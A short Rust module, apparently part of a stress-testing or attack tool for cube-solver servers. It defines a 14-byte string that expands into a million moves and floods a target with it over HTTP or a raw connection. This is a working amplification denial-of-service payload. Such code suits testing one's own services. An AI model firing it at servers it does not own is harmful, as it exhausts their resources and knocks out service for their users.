//! Short texts that stand for a million moves.

use super::Attacker;
use super::flood::repeat;
use crate::target::ServerKind;
use crate::wire::post;
use serde_json::json;
use std::io;

/// A million moves in 14 bytes.
pub(super) const MILLION_MOVES: &str = "(RUFLDB)166666";

pub(super) async fn attack(attacker: &Attacker) -> io::Result<()> {
    let request = match attacker.target.kind() {
        ServerKind::Http => post(&attacker.target, "solve", &json!({ "cube": MILLION_MOVES })),
        _ => format!("{MILLION_MOVES}\n").into_bytes(),
    };
    repeat(attacker, &request.repeat(10)).await
}
